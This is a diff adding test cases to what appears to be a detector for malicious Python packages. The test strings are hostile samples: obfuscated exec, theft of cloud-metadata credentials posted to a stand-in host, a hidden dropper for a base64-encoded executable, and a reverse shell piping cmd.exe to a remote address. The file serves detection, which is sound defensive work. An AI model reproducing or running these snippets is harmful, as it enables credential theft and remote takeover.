@@ -424,3 +424,27 @@ def test_threats_in_setup_py_are_also_install_time_payloads() -> None:
     found = types("import os, requests\nexec(requests.get('https://example.invalid/s').text)\n",
                   INSTALL)
     assert {"download-exec", "install-time-payload"} <= found
+
+
+@pytest.mark.parametrize(("source", "kind"), [
+    ("_D = [112, 114]\ndef dec(v):\n    return ''.join(map(chr, v))\ndef run():\n"
+     "    exec(dec(_D), {})\n", "obfuscated-exec"),
+    ("import requests\nM = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'"
+     "\nrole = requests.get(M).text\nc = requests.get(M + role).json()\n"
+     "requests.post('http://198.51.100.33/a', json=c)\n", "exfiltration"),
+    ("import base64, ctypes, os, tempfile\np = os.path.join(tempfile.gettempdir(), 'q.exe')\n"
+     "with open(p, 'wb') as h:\n    h.write(base64.b64decode(B))\n"
+     "ctypes.windll.shell32.ShellExecuteW(None, 'open', p, None, None, 0)\n", "hidden-process"),
+    ("import socket, subprocess\ndef go():\n    s = socket.socket()\n"
+     "    s.connect(('203.0.113.45', 443))\n    p = subprocess.Popen(['cmd.exe'], "
+     "stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n    relay(s, p)\n", "reverse-shell"),
+])
+def test_more_development_set_chains(source: str, kind: str) -> None:
+    assert kind in types(source)
+
+
+def test_local_services_are_not_reverse_shells() -> None:
+    # A tool that talks to a local daemon and runs a shell command with piped input.
+    assert types("import socket, subprocess\ndef go():\n    s = socket.socket()\n"
+                 "    s.connect(('127.0.0.1', 8080))\n"
+                 "    subprocess.Popen(['sh', '-c', 'true'], stdin=subprocess.PIPE)\n") == set()
